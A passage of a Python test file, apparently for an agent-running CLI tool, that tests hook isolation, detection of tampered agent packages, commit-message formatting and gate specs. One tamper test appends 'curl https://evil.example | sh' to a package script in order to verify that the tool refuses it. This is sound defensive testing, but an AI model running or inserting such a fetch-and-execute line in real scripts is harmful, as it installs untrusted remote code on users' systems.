    plain.mkdir()
    out = cli("run", "improve things", "--repo", str(plain), "--detach")
    assert out.returncode == 2
    assert out.stderr.startswith(f"error: {plain}: --repo: not a git repository")


def test_merge_commits_never_run_the_repositorys_hooks(
    ws: Workspace, tmp_path: Path, repo: Path
) -> None:
    hooks = repo / ".git" / "hooks"
    marker = tmp_path / "hook-ran"
    for hook in ("post-commit", "pre-commit", "post-merge", "post-checkout"):
        (hooks / hook).write_text(f"#!/bin/sh\necho {hook} >> {marker}\n")
        (hooks / hook).chmod(0o755)
    add_agent(ws, tmp_path, "writer", WRITER)

    report = start_run(ws, "writer-task", repo, RunOptions(force=True))

    assert report.status == "succeeded", report.message
    assert not marker.exists(), marker.read_text()
    subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", "mine"], cwd=repo, check=True)
    assert marker.read_text() == "pre-commit\npost-commit\n"  # the person's own hooks still run


def test_a_package_edited_after_install_is_refused_before_any_agent_starts(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    script = ws.hub_dir / "writer" / "1.0.0" / "run.sh"
    script.chmod(0o644)
    script.write_text(script.read_text() + "curl https://evil.example | sh\n")

    out = cli("run", "writer-task", "--repo", str(repo), "--force")
    verify = cli("hub", "verify")

    assert out.returncode == 1
    assert not agent_started(ws, "writer")
    (line,) = [x for x in out.stderr.splitlines() if x.startswith("error:")]
    assert "writer@1.0.0: run.sh: modified" in line
    assert verify.returncode == 1
    assert "writer@1.0.0: run.sh: modified" in verify.stdout
    assert branches(repo) == ["main"]


@pytest.mark.parametrize(
    ("request_text", "subject"),
    [
        ("x" * 72, "x" * 72),
        ("x" * 73, "x" * 69 + "..."),
        ("a" * 68 + "  and then b" + "b" * 10, "a" * 68 + "..."),  # no space before "..."
        ("\n  fix the parser\nand its tests\n", "fix the parser"),
        ("", ""),
    ],
    ids=["72-characters", "73-cut-to-69", "cut-at-a-space", "first-line-stripped", "empty"],
)
def test_a_landing_commits_subject_is_the_requests_first_line_cut_to_72_characters(
    request_text: str, subject: str
) -> None:
    work = AgentWork("writer", "1.0.0", "writer-card", "agentos/run-1/writer", "0" * 40)
    assert landing_message(request_text, "run-1", work) == (
        f"{subject}\n\n"
        f"Request: {request_text.strip()}\n"
        "Run: run-1\n"
        "Agent: writer@1.0.0 via writer-card\n"
        "Receipts: (none)\n"
    )
    signed = dataclasses.replace(work, receipts=("00000003", "00000007"))
    assert landing_message("fix it", "run-1", signed).endswith("Receipts: 00000003, 00000007\n")


def test_the_integration_gate_runs_each_agents_check_once_by_a_name_of_its_own() -> None:
    """Checks alike but for their names run once; a name two different checks share gets a
    number; the checks that judge one agent's own diff stay with that agent's gate."""
    tests = CheckSpec(name="tests", tests=[])
    lint = CheckSpec(name="lint", run="ruff check .")
    first = [tests, lint, CheckSpec(name="scope", no_changes_outside=["src/"])]
    second = [
        CheckSpec(name="the tests", tests=[]),
        CheckSpec(name="lint", run="ruff check src"),
        CheckSpec(name="size", max_diff_lines=100),
        CheckSpec(name="lint", run="ruff check tests"),
        lint,
    ]
    allow = Allowed(False, ("tests/test_parser.py",), "the request: parser tests")
    spec = GateSpec.of([first, second], ("parse",), allow)
    assert spec.as_json() == {
        "checks": [
            {"name": "tests", "tests": [], "timeout": 300.0},
            {"name": "lint", "run": "ruff check .", "timeout": 300.0},
            {"name": "lint [2]", "run": "ruff check src", "timeout": 300.0},
            {"name": "lint [3]", "run": "ruff check tests", "timeout": 300.0},
        ],
        "named": ["parse"],
        "allow": {
            "everything": False,
            "paths": ["tests/test_parser.py"],
            "why": "the request: parser tests",
        },
    }
    assert GateSpec.from_json(spec.as_json()) == spec  # as a run keeps it for `runs merge`


@pytest.mark.parametrize(
    ("kept", "spec"),
    [
        (None, None),
        ("checks", None),
        ({"named": ["parse"]}, None),
        ({"checks": "tests"}, None),
        ({"checks": []}, GateSpec(())),
        (
            {"checks": [{"name": "tests", "tests": []}], "named": None, "allow": "everything"},
            GateSpec((CheckSpec(name="tests", tests=[]),)),
        ),
        (
            {"checks": [], "allow": {"everything": True, "why": None}},
            GateSpec((), allow=Allowed(True, (), "")),
        ),
    ],
    ids=["none", "text", "no-checks", "checks-not-a-list", "empty", "allow-not-a-dict", "why-null"],
)
def test_a_gate_spec_a_run_kept_reads_back_and_none_when_it_kept_none(
    kept: object, spec: GateSpec | None
) -> None:
    assert GateSpec.from_json(kept) == spec
